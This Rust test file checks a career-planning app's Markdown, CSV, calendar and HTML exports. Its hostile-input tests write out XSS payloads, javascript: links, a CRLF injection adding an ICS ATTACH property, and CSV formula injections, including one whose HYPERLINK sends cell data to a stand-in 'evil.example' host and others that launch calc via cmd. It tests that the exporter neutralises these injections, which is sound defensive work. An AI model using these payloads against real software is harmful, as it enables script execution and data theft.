//! Exports: each format on the sample plan and on small fixtures, read back
//! the way another tool would read it.

#![allow(clippy::expect_used, reason = "a test stops at its first failure")]

mod common;

use jiff::civil::{Date, date};
use stepstone::io::export::{Format, Options, export};
use stepstone::model::Plan;

/// The sample's own today (its last logged day is the 24th).
const TODAY: Date = date(2026, 11, 25);

fn sample() -> Plan {
    stepstone::io::sample_plan()
}

fn fixture_plan(name: &str) -> Plan {
    stepstone::io::load(&common::fixture(name))
        .expect("fixture loads")
        .0
}

fn exported(plan: &Plan, format: Format, options: &Options) -> String {
    export(plan, format, options, TODAY).expect("exports")
}

/// The cells of a Markdown table row, split at pipes that are not escaped.
fn cells(row: &str) -> Vec<String> {
    let mut cells = vec![String::new()];
    let mut escaped = false;
    for c in row.trim().trim_matches('|').chars() {
        match (c, escaped) {
            ('|', false) => cells.push(String::new()),
            _ => cells.last_mut().expect("one cell").push(c),
        }
        escaped = c == '\\' && !escaped;
    }
    cells.iter().map(|c| c.trim().to_string()).collect()
}

#[test]
fn the_markdown_report_has_every_section_with_the_models_numbers() {
    let md = exported(&sample(), Format::Md, &Options::default());
    let headings: Vec<&str> = md.lines().filter(|l| l.starts_with("## ")).collect();
    assert_eq!(
        headings,
        [
            "## Why",
            "## Roadmap",
            "## Skills",
            "## Goals and milestones",
            "## Recent achievements"
        ]
    );
    for line in [
        "# Talia Brennan: career plan",
        "> Good teaching at the bedside reaches patients I will never meet.",
        "- **Clinical Education Coordinator** at Cedar Ridge Regional Hospital (current role, since Apr 2022)",
        // Budgeting: level 2 since 31 Jul 2026; the next role needs 3.
        "| Budgeting | Operations | 2 (novice) | 3 (practising) by 31 Mar 2027 | 3 (practising) | 1 level to go |",
        "| Curriculum design | Teaching | 4 (proficient) | 4 (proficient) by 31 Mar 2027 | 4 (proficient) | met |",
        "- [x] Finish the review course (done 25 Sep 2026): [All twelve modules complete](https://learning.example.org/certificates/npd-review-2026)",
        "- [ ] Sit the certification exam (due 11 Dec 2026)",
        "Learning \u{b7} Active \u{b7} due 18 Dec 2026  ",
        "- Milestone done on 11 Sep 2026: Build a new-graduate retention dashboard (Get fluent with program evaluation data).",
        "- Curriculum design rose from 3 (practising) to 4 (proficient).",
        "- Mentored or coached Jonah Reyes.",
    ] {
        assert!(md.lines().any(|l| l == line), "missing {line:?} in\n{md}");
    }
    // Each goal's pace comes from the model (the Insights view shows the same).
    assert!(
        md.contains("Progress: 8 h 35 min of 12 h \u{b7} **Behind**"),
        "{md}"
    );
    // Nothing private: no log entry's text, no review answer, no person's notes.
    let plan = sample();
    for private in plan
        .log
        .iter()
        .map(|e| e.text.as_str())
        .chain(plan.reviews.iter().map(|r| r.learned.as_str()))
        .chain(plan.people.iter().map(|p| p.notes.as_str()))
    {
        assert!(!md.contains(private), "{private:?} is in the report");
    }
}

#[test]
fn markdown_shows_plan_text_as_typed() {
    let mut plan = sample();
    plan.skills[0].name = "C | C++ *fast* [x]".into();
    plan.goals[0].title = "# Not a heading\nnor two lines".into();
    let md = exported(&plan, Format::Md, &Options::default());
    let row = md
        .lines()
        .find(|l| l.starts_with("| C "))
        .expect("the skill's row");
    let cells = cells(row);
    assert_eq!(cells.len(), 6, "{row}");
    assert_eq!(cells[0], r"C \| C++ \*fast\* \[x\]");
    assert!(
        md.contains("\n### \\# Not a heading nor two lines\n"),
        "{md}"
    );
}

/// A text cell of the CSV as it was typed: the README's rule, the other
/// way. A `'` was put before a text that starts with `=`, `+`, `-`, `@`, a
/// tab or a carriage return (a spreadsheet would run it as a formula), or
/// with `'` followed by such a text.
fn text_of(cell: &str) -> &str {
    fn quoted(text: &str) -> bool {
        text.starts_with(['=', '+', '-', '@', '\t', '\r'])
            || text.strip_prefix('\'').is_some_and(quoted)
    }
    cell.strip_prefix('\'')
        .filter(|rest| quoted(rest))
        .unwrap_or(cell)
}

#[test]
fn the_csv_reads_back_as_the_same_entries_in_date_order() {
    let mut plan = sample();
    plan.log[0].text = "Line one,\nline \"two\"; caf\u{e9}".into();
    plan.log[0].remembered_why = true;
    plan.log[1].text = "=1+1 stays text".into();
    plan.log[2].text = "'=1+1 was typed with its quote".into();
    plan.log[3].text = "'Tis the season".into();
    plan.skills[0].name = "-ish".into();
    let text = exported(&plan, Format::Csv, &Options::default());
    assert!(
        text.starts_with("Date,Minutes,Kind,Text,Skills,Goals,People,Energy,Remembered why\r\n")
    );
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    let rows: Vec<csv::StringRecord> = reader.records().map(|r| r.expect("a record")).collect();
    let mut entries: Vec<&stepstone::model::LogEntry> = plan.log.iter().collect();
    entries.sort_by_key(|e| e.date); // stable: the order written within a day
    assert_eq!(rows.len(), entries.len());
    for (row, e) in rows.iter().zip(entries) {
        let names = |cell: &str| -> Vec<String> {
            text_of(cell)
                .split("; ")
                .filter(|s| !s.is_empty())
                .map(String::from)
                .collect()
        };
        let skills: Vec<String> = e
            .skills
            .iter()
            .map(|s| plan.skill(*s).expect("skill").name.clone())
            .collect();
        let goals: Vec<String> = e
            .goals
            .iter()
            .map(|g| plan.goal(*g).expect("goal").title.clone())
            .collect();
        let people: Vec<String> = e
            .people
            .iter()
            .map(|p| plan.person(*p).expect("person").name.clone())
            .collect();
        assert_eq!(&row[0], e.date.to_string());
        assert_eq!(row[1].parse::<u32>().expect("minutes"), e.minutes);
        assert_eq!(&row[2], e.kind.label());
        assert_eq!(text_of(&row[3]), e.text);
        assert_eq!(names(&row[4]), skills);
        assert_eq!(names(&row[5]), goals);
        assert_eq!(names(&row[6]), people);
        assert_eq!(row[7].parse::<u8>().ok(), e.energy);
        assert_eq!(&row[8] == "yes", e.remembered_why);
    }
}

#[test]
fn a_csv_for_a_period_holds_only_its_entries() {
    let plan = sample();
    let (from, to) = (date(2026, 11, 1), date(2026, 11, 7));
    let options = Options {
        from: Some(from),
        to: Some(to),
    };
    let text = exported(&plan, Format::Csv, &options);
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    let days: Vec<String> = reader
        .records()
        .map(|r| r.expect("a record")[0].to_string())
        .collect();
    let expected = plan
        .log
        .iter()
        .filter(|e| from <= e.date && e.date <= to)
        .count();
    assert_eq!(days.len(), expected);
    assert!(expected > 5);
    assert!(
        days.iter()
            .all(|d| d.as_str() >= "2026-11-01" && d.as_str() <= "2026-11-07"),
        "{days:?}"
    );
}

/// The events of an ICS text as an iCalendar parser reads them: each as
/// its properties' names and values.
fn ics_events(text: &str) -> Vec<Vec<(String, String)>> {
    let mut parser = ical::IcalParser::new(std::io::BufReader::new(text.as_bytes()));
    let calendar = parser.next().expect("one calendar").expect("parses");
    assert!(parser.next().is_none(), "only one calendar");
    calendar
        .events
        .iter()
        .map(|e| {
            e.properties
                .iter()
                .map(|p| (p.name.clone(), p.value.clone().unwrap_or_default()))
                .collect()
        })
        .collect()
}

fn property<'a>(event: &'a [(String, String)], name: &str) -> &'a str {
    event
        .iter()
        .find(|(n, _)| n == name)
        .map_or("", |(_, v)| v.as_str())
}

#[test]
fn the_calendar_has_an_event_per_milestone_and_keeps_its_uids() {
    let plan = sample();
    let text = exported(&plan, Format::Ics, &Options::default());
    let events = ics_events(&text);
    let milestones: Vec<&stepstone::model::Milestone> =
        plan.goals.iter().flat_map(|g| &g.milestones).collect();
    let milestone_events: Vec<&Vec<(String, String)>> = events
        .iter()
        .filter(|e| property(e, "UID").starts_with("milestone-"))
        .collect();
    assert_eq!(milestone_events.len(), milestones.len());
    assert_eq!(milestones.len(), 21);
    // Every goal of the sample has a due date: one event each.
    assert_eq!(events.len(), milestones.len() + plan.goals.len());
    // Milestone 6 was done on 25 Sep 2026 (due 30 Sep): an all-day event that day.
    let done = events
        .iter()
        .find(|e| property(e, "UID").starts_with("milestone-6."))
        .expect("milestone 6");
    assert_eq!(
        property(done, "SUMMARY"),
        "Milestone done: Finish the review course"
    );
    assert_eq!(property(done, "DTSTART"), "20260925");
    assert_eq!(property(done, "DTEND"), "20260926");
    assert_eq!(
        property(done, "URL"),
        "https://learning.example.org/certificates/npd-review-2026"
    );
    // RFC 5545: CRLF line ends, lines of at most 75 octets.
    assert!(text.ends_with("END:VCALENDAR\r\n"));
    for line in text.split("\r\n") {
        assert!(!line.contains('\n'), "a bare line feed: {line:?}");
        assert!(line.len() <= 75, "{} octets: {line:?}", line.len());
    }
    // A later export (another day, a milestone renamed) keeps every UID.
    let mut later_plan = plan.clone();
    later_plan.goals[0].milestones[0].title = "Renamed".into();
    let later = export(
        &later_plan,
        Format::Ics,
        &Options::default(),
        date(2027, 1, 4),
    )
    .expect("exports");
    let uids = |events: &[Vec<(String, String)>]| -> Vec<String> {
        events
            .iter()
            .map(|e| property(e, "UID").to_string())
            .collect()
    };
    let first = uids(&events);
    assert_eq!(uids(&ics_events(&later)), first);
    let unique: std::collections::HashSet<&String> = first.iter().collect();
    assert_eq!(unique.len(), first.len(), "UIDs are unique");
    // Another person's plan has other UIDs for the same ids.
    let mut other = plan.clone();
    other.owner = "Someone Else".into();
    let theirs = uids(&ics_events(&exported(
        &other,
        Format::Ics,
        &Options::default(),
    )));
    assert!(theirs.iter().all(|u| !first.contains(u)));
}

#[test]
fn calendar_text_is_escaped_and_folded() {
    let mut plan = sample();
    let title = "Lead, plan; review \\ the \u{1f4c5} very long milestone title that \
                 goes on and on past seventy-five octets, café";
    plan.goals[0].milestones[0].title = title.into();
    plan.goals[0].milestones[0].evidence = "two\r\nlines".into();
    let text = exported(&plan, Format::Ics, &Options::default());
    let events = ics_events(&text);
    let event = events
        .iter()
        .find(|e| property(e, "UID").starts_with("milestone-1."))
        .expect("milestone 1");
    // The parser unfolds lines but leaves escapes as written.
    let unescaped = property(event, "SUMMARY")
        .replace("\\,", ",")
        .replace("\\;", ";")
        .replace("\\\\", "\\");
    assert_eq!(unescaped, format!("Milestone done: {title}"));
    assert!(property(event, "DESCRIPTION").ends_with("Evidence: two\\nlines"));
    for line in text.split("\r\n") {
        assert!(line.len() <= 75, "{} octets: {line:?}", line.len());
    }
}

#[test]
fn a_link_to_a_missing_item_is_named_as_missing() {
    let mut plan = sample();
    plan.log.truncate(1);
    plan.log[0].skills = vec![stepstone::model::SkillId(99)];
    let text = exported(&plan, Format::Csv, &Options::default());
    assert!(text.contains(",(missing skill 99),"), "{text}");
}

/// Worked by hand from `tests/fixtures/brag.stepstone.ron` for February and
/// March 2026. Left out: the first level of Coaching and of Reporting
/// (where they started), Spreadsheets' drop, Coaching's July level and the
/// April milestone (after), the open milestone, the learning and routine
/// entries, and the mentoring entries of 20 Jan and 1 Apr (outside).
const BRAG: &str = "# Achievements: Jordan Lee

_1 Feb 2026 to 31 Mar 2026. Exported from Stepstone on 15 Apr 2026._

In this period: 2 milestones done, 2 levels gained, 3 entries beyond my duties and 1 entry of mentoring or coaching.

## Team lead (next role)

### Coaching

Needs 3 (practising); at 2 (novice) on 31 Mar 2026.

- 3 Feb 2026: Mentoring or coaching: Paired with Sam on hard calls (1 h, with Sam Okafor)
- 10 Feb 2026: Beyond my duties: Wrote the holiday rota (30 min)
- 15 Feb 2026: Milestone done: Plan the week (goal: Run the onboarding week): Agenda agreed with the manager
- 5 Mar 2026: Level up from 1 (aware) to 2 (novice): Coached two new hires through their first month

### Scheduling

Needs 3 (practising); at 3 (practising) on 31 Mar 2026.

- 10 Feb 2026: Beyond my duties: Wrote the holiday rota (30 min)
- 20 Feb 2026: Level up from 2 (novice) to 3 (practising): Built the team's rota

## Trainer (option)

Also needs Coaching: evidence above.

### Public speaking

Needs 3 (practising); at 0 (none) on 31 Mar 2026.

- 15 Mar 2026: Beyond my duties: Gave a talk at the team day (40 min)

## Other achievements

- 20 Mar 2026: Milestone done: Archive old articles (goal: Tidy the knowledge base): [evidence](https://wiki.example.org/archive)
- 31 Mar 2026: Beyond my duties: Fixed the printer for everyone (20 min)

## Required skills with no evidence in this period

- Reporting (needed by Team lead): 1 h 30 min logged.
";

#[test]
fn the_brag_document_lists_exactly_the_periods_evidence() {
    let plan = fixture_plan("brag.stepstone.ron");
    let options = Options {
        from: Some(date(2026, 2, 1)),
        to: Some(date(2026, 3, 31)),
    };
    let text = export(&plan, Format::Brag, &options, date(2026, 4, 15)).expect("exports");
    assert_eq!(text, BRAG);
}

#[test]
fn the_brag_document_covers_the_last_six_months_by_default() {
    let text = exported(&sample(), Format::Brag, &Options::default());
    assert!(text.starts_with(
        "# Achievements: Talia Brennan\n\n_26 May 2026 to 25 Nov 2026. Exported from Stepstone on 25 Nov 2026._\n"
    ));
    // Budgeting's level rose on 31 Jul 2026, inside the six months.
    assert!(text.contains("- 31 Jul 2026: Level up from 1 (aware) to 2 (novice): Finished the first four budgeting course modules"), "{text}");
    // Milestone 18 was done in September 2025, before them.
    assert!(!text.contains("Tell Diane"), "{text}");
}

/// Every place in `html` where `needle` occurs.
fn positions(html: &str, needle: &str) -> Vec<usize> {
    html.match_indices(needle).map(|(i, _)| i).collect()
}

#[test]
fn the_html_report_has_a_chart_per_plot_and_loads_nothing() {
    let html = exported(&sample(), Format::Html, &Options::default());
    assert!(html.starts_with("<!DOCTYPE html>\n<html lang=\"en\">"));
    let charts = [
        "Readiness for target roles",
        "Skill levels now",
        "Milestones: done and due",
        "Hours per week",
    ];
    assert_eq!(positions(&html, "<svg ").len(), charts.len());
    assert_eq!(positions(&html, "</svg>").len(), charts.len());
    for title in charts {
        assert!(html.contains(&format!("\">{title}</title>")), "{title}");
    }
    // Axis titles.
    for axis in [
        "Hours",
        "Week",
        "Ready",
        "Milestones",
        "Date",
        "Level (0 none to 5 expert)",
    ] {
        assert!(html.contains(&format!("\">{axis}</text>")), "{axis}");
    }
    // Nothing that loads or runs: no scripts, sources, style sheets or
    // fonts from elsewhere. The only addresses are links to follow.
    for banned in [
        "<script", "src=", "<link", "@import", "url(", "<iframe", "<img", "<object",
    ] {
        assert!(!html.to_ascii_lowercase().contains(banned), "{banned}");
    }
    let links = positions(&html, "http");
    let evidence_links = sample()
        .goals
        .iter()
        .flat_map(|g| &g.milestones)
        .filter(|m| !m.link.is_empty())
        .count();
    assert_eq!((links.len(), evidence_links), (4, 4), "the evidence links");
    for at in links {
        assert!(
            html[..at].ends_with("<a href=\""),
            "{}",
            &html[at.saturating_sub(40)..at + 20]
        );
    }
    assert!(html.contains("@media print"));
    // The same content as the Markdown report.
    for text in [
        "<td>Budgeting</td><td>Operations</td><td class=\"level\">2 (novice)</td><td>3 (practising) by 31 Mar 2027</td><td class=\"level\">3 (practising)</td><td class=\"gap\">1 level to go</td>",
        "<span class=\"pace behind\">Behind</span>",
        "<li>Mentored or coached Jonah Reyes.</li>",
    ] {
        assert!(html.contains(text), "{text}");
    }
}

#[test]
fn html_shows_markup_in_plan_text_as_text() {
    let mut plan = sample();
    plan.owner = "<script>alert(1)</script>".into();
    plan.roles[3].title = "Tom & Jerry's \"lead\"".into();
    plan.skills[0].name = "<b>C</b>".into();
    plan.goals[0].milestones[1].link = "https://x.example/?a=1&b=\"2\"".into();
    plan.goals[0].milestones[0].link = "javascript:alert(1)".into();
    let html = exported(&plan, Format::Html, &Options::default());
    assert!(!html.contains("<script"));
    assert!(
        !html.contains("javascript:"),
        "an unsafe link is not a link"
    );
    assert!(html.contains("<h1>&lt;script&gt;alert(1)&lt;/script&gt;: career plan</h1>"));
    assert!(html.contains("Tom &amp; Jerry&#39;s &quot;lead&quot;"));
    assert!(html.contains("<td>&lt;b&gt;C&lt;/b&gt;</td>"));
    assert!(html.contains("href=\"https://x.example/?a=1&amp;b=&quot;2&quot;\""));
}

#[test]
fn an_empty_plan_exports_in_every_format() {
    let plan = Plan::default();
    for format in Format::ALL {
        let text = exported(&plan, format, &Options::default());
        assert!(!text.is_empty(), "{format:?}");
    }
    let html = exported(&plan, Format::Html, &Options::default());
    assert!(!html.contains("<svg"), "no chart without numbers");
}

/// What a hostile plan puts in every text: markup, a script, a link to a
/// script, a table's pipe, a heading on a new line and an entity.
const HOSTILE: &str = "<img src=x onerror=alert(1)> [a](javascript:x) ![i](x) | x\n# heading\r\n<script>alert(2)</script> &lt;b&gt; *e* `c` \\";

/// The sample with `HOSTILE` in every text a person types, and links that
/// are not safe to follow.
fn hostile_plan() -> Plan {
    let mut plan = sample();
    let h = |what: &str| format!("{what} {HOSTILE}");
    plan.owner = h("owner");
    plan.purpose = vec![h("why"), format!("- {HOSTILE}")];
    plan.level_names = stepstone::model::LevelNames(
        (0..6)
            .map(|l| format!("<img src=x{l}> |{l}| [l](javascript:x)"))
            .collect(),
    );
    for r in &mut plan.roles {
        r.title = h("role");
        r.organisation = h("org");
    }
    for s in &mut plan.skills {
        s.name = format!("skill {} {HOSTILE}", s.id);
        s.category = h("category");
        for c in &mut s.history {
            c.evidence = h("level evidence");
        }
    }
    for g in &mut plan.goals {
        g.title = h("goal");
        g.why = h("goal why");
        for (i, m) in g.milestones.iter_mut().enumerate() {
            m.title = h("milestone");
            m.evidence = format!("evidence {HOSTILE}\\");
            m.link = match i % 3 {
                0 => "javascript:alert(1)".into(),
                1 => "https://x.example/\r\nATTACH:https://evil.example/".into(),
                _ => "https://x.example/a (b) <c> \\".into(),
            };
        }
    }
    for p in &mut plan.people {
        p.name = h("person");
    }
    for e in &mut plan.log {
        e.text = h("log");
    }
    plan
}

/// The link targets a Markdown renderer would follow in `md`: each `](`
/// whose `]` is not escaped by a backslash, up to the closing `)`.
fn live_links(md: &str) -> Vec<&str> {
    md.match_indices("](")
        .filter(|(at, _)| md[..*at].chars().rev().take_while(|c| *c == '\\').count() % 2 == 0)
        .map(|(at, _)| {
            let rest = &md[at + 2..];
            &rest[..rest.find(')').unwrap_or(rest.len())]
        })
        .collect()
}

#[test]
fn hostile_plan_text_is_inert_in_markdown_and_the_achievements() {
    let plan = hostile_plan();
    let md = exported(&plan, Format::Md, &Options::default());
    let brag = exported(&plan, Format::Brag, &Options::default());
    for (what, text) in [("md", &md), ("brag", &brag)] {
        assert!(!text.contains('<'), "{what}: raw markup in\n{text}");
        assert!(!text.contains('\r'), "{what}");
        let links = live_links(text);
        assert!(!links.is_empty(), "{what}: safe links are still links");
        for link in links {
            assert!(link.starts_with("https://x.example/"), "{what}: {link:?}");
            assert!(!link.contains([' ', '<', '>', '(', '\\']), "{link:?}");
        }
        for line in text.lines() {
            assert!(!line.starts_with("# heading"), "{what}: {line:?}");
            assert!(
                !line.starts_with("> - "),
                "{what}: a list in the why: {line:?}"
            );
        }
        // Shown as typed: the entity as written, the markup as text.
        assert!(text.contains("&amp;lt;b&amp;gt;"), "{what}");
        assert!(
            text.contains("&lt;img src=x onerror=alert(1)&gt;"),
            "{what}"
        );
    }
    let rows: Vec<&str> = md.lines().filter(|l| l.starts_with('|')).collect();
    assert_eq!(rows.len(), plan.skills.len() + 2);
    for row in rows {
        assert_eq!(cells(row).len(), 6, "{row}");
    }
    assert!(
        md.contains("&lt;img src=x3&gt; \\|3\\| \\[l\\](javascript:x)"),
        "{md}"
    );
    assert!(
        brag.contains("&lt;img src=x"),
        "level names are in the achievements"
    );
}

#[test]
fn hostile_plan_text_is_inert_in_html() {
    let html = exported(&hostile_plan(), Format::Html, &Options::default());
    for raw in ["<img", "<script", "ATTACH", "\r"] {
        assert!(!html.contains(raw), "{raw:?} in the HTML");
    }
    let hrefs: Vec<&str> = html
        .split("href=\"")
        .skip(1)
        .map(|rest| &rest[..rest.find('"').unwrap_or(rest.len())])
        .collect();
    assert!(!hrefs.is_empty());
    for href in hrefs {
        assert_eq!(href, "https://x.example/a (b) &lt;c&gt; \\");
    }
    assert!(html.contains("&lt;img src=x onerror=alert(1)&gt; [a](javascript:x)"));
    assert!(html.contains("&lt;img src=x3&gt; |3|"), "level names");
}

#[test]
fn no_plan_text_can_add_a_line_to_the_calendar() {
    let plan = hostile_plan();
    let text = exported(&plan, Format::Ics, &Options::default());
    let mut parser = ical::IcalParser::new(std::io::BufReader::new(text.as_bytes()));
    let calendar = parser.next().expect("one calendar").expect("parses");
    assert!(parser.next().is_none(), "only one calendar");
    let names = |props: &[ical::property::Property]| -> Vec<String> {
        props.iter().map(|p| p.name.clone()).collect()
    };
    assert_eq!(
        names(&calendar.properties),
        [
            "VERSION",
            "PRODID",
            "CALSCALE",
            "METHOD",
            "NAME",
            "X-WR-CALNAME"
        ]
    );
    let dated = plan
        .goals
        .iter()
        .flat_map(|g| &g.milestones)
        .filter(|m| m.done.or(m.due).is_some())
        .count()
        + plan.goals.iter().filter(|g| g.due.is_some()).count();
    assert_eq!(calendar.events.len(), dated);
    for e in &calendar.events {
        let mut props = names(&e.properties);
        props.sort();
        // Only the safe link, as one value.
        if let Some(url) = e.properties.iter().find(|p| p.name == "URL") {
            assert_eq!(
                url.value.as_deref(),
                Some("https://x.example/a%20(b)%20<c>%20\\")
            );
            props.retain(|p| p != "URL");
        }
        let expected = [
            "DESCRIPTION",
            "DTEND",
            "DTSTAMP",
            "DTSTART",
            "SUMMARY",
            "TRANSP",
            "UID",
        ];
        assert_eq!(props, expected, "{e:?}");
    }
    for line in text.split("\r\n") {
        assert!(!line.contains(['\r', '\n']), "{line:?}");
    }
}

#[test]
fn a_calendar_of_a_four_megabyte_title_and_link_is_written_at_once() {
    let mut plan = sample();
    let title = "Read \u{e9}\u{1f4c5}, again; ".repeat(4 << 20 >> 5);
    let link = format!("https://x.example/{}", "a".repeat(4 << 20));
    plan.goals[0].milestones[0].title = title.clone();
    plan.goals[0].milestones[0].link = link.clone();
    let start = std::time::Instant::now();
    let text = exported(&plan, Format::Ics, &Options::default());
    let took = start.elapsed();
    assert!(took < std::time::Duration::from_secs(5), "took {took:?}");
    let events = ics_events(&text);
    let event = events
        .iter()
        .find(|e| property(e, "UID").starts_with("milestone-1."))
        .expect("milestone 1");
    assert_eq!(property(event, "URL"), link);
    assert_eq!(
        property(event, "SUMMARY")
            .replace("\\,", ",")
            .replace("\\;", ";"),
        format!("Milestone done: {}", title.trim())
    );
    for line in text.split("\r\n") {
        assert!(line.len() <= 75, "{} octets", line.len());
    }
}

#[test]
fn csv_cells_never_start_a_formula() {
    let mut plan = sample();
    let formulas = [
        "=HYPERLINK(\"https://evil.example/?\"&A1,\"Open\")",
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
    ];
    for (e, f) in plan.log.iter_mut().zip(formulas) {
        e.text = f.into();
    }
    plan.skills[0].name = "=1+1".into();
    plan.goals[0].title = "-1+1".into();
    plan.people[0].name = "@me".into();
    let text = exported(&plan, Format::Csv, &Options::default());
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    let rows: Vec<csv::StringRecord> = reader.records().map(|r| r.expect("a record")).collect();
    let mut seen = Vec::new();
    for row in &rows {
        for cell in row {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "a live formula: {cell:?}"
            );
            if cell.starts_with('\'') {
                seen.push(cell.to_string());
            }
        }
    }
    for f in formulas {
        assert!(seen.contains(&format!("'{f}")), "{f:?} in {seen:?}");
    }
    assert!(seen.iter().any(|c| c.starts_with("'=1+1")));
    assert!(seen.iter().any(|c| c.starts_with("'-1+1")));
    assert!(seen.iter().any(|c| c.starts_with("'@me")));
}
